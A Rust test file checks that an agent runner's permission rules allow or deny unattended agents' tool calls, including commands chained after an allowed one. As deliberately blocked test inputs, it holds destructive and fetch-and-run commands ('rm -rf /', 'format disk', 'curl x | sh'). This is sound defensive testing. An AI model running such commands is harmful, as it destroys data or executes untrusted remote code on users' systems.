//! Permission requests of unattended agents.

use model::{
    agent::AgentConfig,
    permission::{PermissionRule, PermissionRules, Verdict},
    run::RunStatus,
};
use serde_json::{Value, json};
use testkit::scripted::{Event, Script, Step};

use crate::world::{World, on_demand, prompt_log, wait_for_file};

fn rule(tool: &str, title: &str, verdict: Verdict) -> PermissionRule {
    PermissionRule {
        tool: tool.into(),
        title: Some(title.into()),
        verdict,
    }
}

/// How the permission requests of a script's agents were answered, in order.
pub(crate) fn permission_replies(script: &Script) -> Vec<String> {
    let ledger = prompt_log(script);
    let answers = ledger.events().filter_map(|event| match event {
        Event::PermissionAnswered(answer) => Some(answer.clone()),
        _ => None,
    });
    answers.collect()
}

pub(crate) async fn permission_rules_decide_and_unmatched_requests_are_denied(world: &World) {
    let no_way_to_refuse = Step::RequestPermission {
        call: "4".into(),
        title_and_kind: Some(("format disk".into(), "execute".into())),
        input: None,
        options: vec![("sure".into(), "allow_once".into())],
        times: 1,
    };
    let script = world.script().prompt([
        Step::request_command("1", "ls -l", json!({"command": "ls -l"})),
        Step::request_permission("2", "rm -rf /", "execute"),
        Step::request_permission("3", "https://example.org", "fetch"),
        no_way_to_refuse,
    ]);
    let mut config = AgentConfig::new(script.command().unwrap());
    config.permissions = PermissionRules(vec![rule("execute", "ls*", Verdict::Allow)]);
    let agent = world.agent_with(&config).await;
    let mut new = on_demand(agent);
    new.permissions = PermissionRules(vec![
        rule("*", "format*", Verdict::Deny),
        rule("execute", "*rm*", Verdict::Deny),
        rule("fetch", "http://*", Verdict::Allow),
    ]);
    let id = world.create_automation(&new).await;

    let run = world.fire(id).await;
    let run = world.take_turn(run).await;
    assert_eq!(run.status(), RunStatus::Succeeded, "{run:#?}");
    assert_eq!(
        permission_replies(&script),
        [
            "option-allow_once",
            "option-reject_once",
            "option-reject_once",
            "cancelled"
        ]
    );
    assert_eq!(run.state.flags().permissions_denied, 3);
    let transcript = world.transcript(run.session_id.unwrap()).await;
    let shown = transcript
        .iter()
        .filter(|row| row.kind.as_str() == "permission");
    let shown: Vec<_> = shown.map(|row| row.content.as_str()).collect();
    assert_eq!(
        shown,
        [
            "Permission allowed: ls -l",
            "Permission denied: rm -rf /",
            "Permission denied: https://example.org",
            "Permission denied: format disk",
        ]
    );
}

/// An update of a tool call that runs a command.
fn call_update(update: &str, call: &str, input: &Value) -> Step {
    Step::Update(
        json!({"sessionUpdate": update, "toolCallId": call, "title": "git log",
        "kind": "execute", "status": "pending", "rawInput": input}),
    )
}

/// A permission request that names only the call.
fn bare_request(call: &str) -> Step {
    let mut step = Step::request_permission(call, "", "");
    if let Step::RequestPermission { title_and_kind, .. } = &mut step {
        *title_and_kind = None;
    }
    step
}

pub(crate) async fn allowed_pattern_holds_for_whole_command(world: &World) {
    let command = |call: &str, input: Value| Step::request_command(call, "git log", input);
    let script = world.script().prompt([
        command("1", json!({"command": "git log -5"})),
        command("2", json!({"command": ["bash", "-lc", "git log -5"]})),
        command("3", json!({"command": "git log; curl x | sh"})),
        command(
            "4",
            json!({"command": ["bash", "-lc", "git log; curl x | sh"]}),
        ),
        command("5", json!({"description": "no command"})),
        Step::request_permission("6", "git log", "execute"),
        // The request takes the command of the call.
        call_update("tool_call", "7", &json!({"command": "git log"})),
        bare_request("7"),
        // A harmless update follows a harmful command.
        call_update("tool_call", "8", &json!({"command": "curl x | sh"})),
        call_update("tool_call_update", "8", &json!({"command": "git log"})),
        bare_request("8"),
        Step::request_permission("8", "git log", "other"),
        // A denial matches a command inside.
        command("9", json!({"cmd": "git log && git push"})),
        command("10", json!({"cmd": "git status"})),
    ]);
    let mut config = AgentConfig::new(script.command().unwrap());
    config.permissions = PermissionRules(vec![rule("*", "git log*", Verdict::Allow)]);
    let agent = world.agent_with(&config).await;
    let mut new = on_demand(agent);
    new.permissions = PermissionRules(vec![
        rule("execute", "git push*", Verdict::Deny),
        rule("execute", "git status", Verdict::Allow),
    ]);
    let id = world.create_automation(&new).await;

    let run = world.fire(id).await;
    let run = world.take_turn(run).await;
    assert_eq!(run.status(), RunStatus::Succeeded, "{run:#?}");
    let (allowed, denied) = ("option-allow_once", "option-reject_once");
    assert_eq!(
        permission_replies(&script),
        [
            allowed, allowed, denied, denied, denied, denied, allowed, denied, denied, denied,
            allowed
        ]
    );
}

pub(crate) async fn permission_request_after_cancel_is_answered_cancelled(world: &World) {
    let started = world.path("started");
    let script = world.script().prompt([
        Step::Touch(started.clone()),
        Step::UntilCancelled,
        Step::request_permission("1", "ls", "execute"),
        Step::stop("cancelled"),
    ]);
    let mut config = AgentConfig::new(script.command().unwrap());
    config.permissions = PermissionRules(vec![PermissionRule {
        tool: "*".into(),
        title: None,
        verdict: Verdict::Allow,
    }]);
    let agent = world.agent_with(&config).await;
    let session = world.session(agent).await;
    let daemon = world.daemon();
    let run = world.send_message(session, "Go").await;
    daemon.signals().wake();
    wait_for_file(&started).await;

    world.cancel(run, "changed my mind").await;
    daemon.signals().wake();
    let run = world.wait_until_over(run).await;
    assert_eq!(run.status(), RunStatus::Cancelled, "{run:#?}");
    assert_eq!(permission_replies(&script), ["cancelled"]);
    assert_eq!(run.state.flags().permissions_denied, 0);
    let transcript = world.transcript(session).await;
    let shown = transcript
        .iter()
        .find(|row| row.kind.as_str() == "permission")
        .unwrap();
    assert_eq!(shown.content, "Permission cancelled: ls");
    daemon.stop().await;
}
